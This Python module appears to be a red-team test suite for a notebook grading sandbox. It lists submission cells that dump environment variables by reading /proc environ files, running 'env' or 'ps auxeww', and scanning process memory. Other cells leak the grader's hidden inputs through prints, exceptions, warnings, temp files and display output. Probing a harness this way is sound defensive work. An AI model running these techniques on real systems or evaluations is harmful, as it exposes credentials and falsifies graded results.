"""Carry secrets out: the environment, and the hidden inputs that the submission is called with."""

from .base import Attack, hunting, telling

ENVIRONMENT = "environment"
HIDDEN = "hidden inputs"


def telling_attack(name: str, tries: str, source: str, later: str = "") -> Attack:
    """Return an attack on r2_score that carries hidden inputs out by ``tell``."""
    cells = {"r2_score": telling(source)} | ({"reduce_loss": later} if later else {})
    return Attack(name, HIDDEN, tries, cells)


ATTACKS = [
    Attack(
        "environment_printed",
        ENVIRONMENT,
        "prints every environment variable of its process",
        {
            "fit_least_squares": hunting(
                "hunt(repr(dict(os.environ)))\nread('/proc/self/environ')\nprint(sorted(os.environ))"
            )
        },
    ),
    Attack(
        "environment_of_programs",
        ENVIRONMENT,
        "starts programs that print their environment and that of their parents",
        {
            "fit_least_squares": hunting("""
            import subprocess
            for command in ("env", "ps auxeww", "cat /proc/$PPID/environ /proc/1/environ", "set", "printenv"):
                try:
                    hunt(subprocess.run(command, shell=True, capture_output=True, timeout=10).stdout, command)
                except Exception as error:
                    print(type(error).__name__)
            """)
        },
    ),
    Attack(
        "environment_block",
        ENVIRONMENT,
        "reads the environment as it was when the process started, from memory, also where it was deleted",
        {
            "fit_least_squares": hunting("""
            import ctypes
            libc = ctypes.CDLL(None)
            block = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
            for place in range(10_000):
                if not block or not block[place]:
                    break
                hunt(block[place], "environ")
            fields = open("/proc/self/stat").read().rpartition(")")[2].split()
            start, end = int(fields[47]), int(fields[48])
            if 0 < start < end:
                hunt(ctypes.string_at(start, end - start), "initial environment")
            """)
        },
    ),
    telling_attack(
        "told_by_printing",
        "prints the hidden inputs while it is called",
        "def tell(y):\n    print(y.tolist())\n    return 0.0",
    ),
    telling_attack(
        "told_by_an_exception",
        "raises an exception whose message is the hidden input",
        "def tell(y):\n    raise ValueError(repr(y.tolist()))",
    ),
    telling_attack(
        "told_by_the_answer",
        "returns the hidden input as a string",
        "def tell(y):\n    return repr(y.tolist())",
    ),
    telling_attack(
        "told_by_the_number",
        "returns the first number of the hidden input as its answer",
        "def tell(y):\n    return float(y[0])",
    ),
    telling_attack(
        "told_by_a_type",
        "returns an object of a class, and raises an exception, named after the hidden input",
        "def tell(y):\n    raise type(repr(y.tolist()), (Exception,), {})(repr(y.tolist()))",
    ),
    telling_attack(
        "told_by_a_source_line",
        "compiles the hidden input into the line of code that fails, and registers its source",
        """
        import linecache
        def tell(y):
            source = f"def told():\\n    raise ValueError({y.tolist()!r})\\n"
            linecache.cache["<told>"] = (len(source), None, source.splitlines(True), "<told>")
            scope = {}
            exec(compile(source.replace("told", "told_%d" % 1), "<told>", "exec"), scope)
            scope["told_1"]()
        """,
    ),
    telling_attack(
        "told_by_a_warning",
        "writes the hidden inputs to stderr, to a logger, to a warning and to the raw descriptors",
        """
        import logging, os, sys, warnings
        def tell(y):
            text = repr(y.tolist())
            warnings.warn(text)
            logging.error(text)
            print(text, file=sys.stderr)
            print(text, file=sys.__stderr__)
            for number in (1, 2):
                os.write(number, text.encode())
            return 0.0
        """,
    ),
    telling_attack(
        "told_in_a_later_cell",
        "keeps the hidden inputs in globals, in modules and in files, and prints them in a later cell",
        """
        import builtins, os
        kept = builtins.kept = []
        def tell(y):
            kept.append(y.tolist())
            for path in ("@MARK@-inputs", "/tmp/@MARK@-inputs"):
                try:
                    with open(path, "a") as file:
                        file.write(repr(y.tolist()))
                except OSError:
                    pass
            return 0.0
        """,
        """
        import os
        print(kept)
        for path in ("@MARK@-inputs", "/tmp/@MARK@-inputs"):
            if os.path.exists(path):
                print(open(path).read())
        def reduce_loss(losses, weights):
            raise ValueError(str(kept))
        """,
    ),
    telling_attack(
        "told_by_display",
        "displays the hidden inputs as text, HTML and a figure while it is called",
        """
        from IPython.display import HTML, display
        def tell(y):
            display(y.tolist())
            display(HTML("<b>" + repr(y.tolist()) + "</b>"))
            get_ipython().display_pub.publish({"text/plain": repr(y.tolist())}, {})
            return 0.0
        """,
    ),
    telling_attack(
        "told_by_a_changed_input",
        "renames and changes its inputs so that the report of a changed input shows them",
        """
        def tell(y):
            text = repr(y.tolist())
            y[:] = 1e9
            raise KeyError(text)
        """,
    ),
]
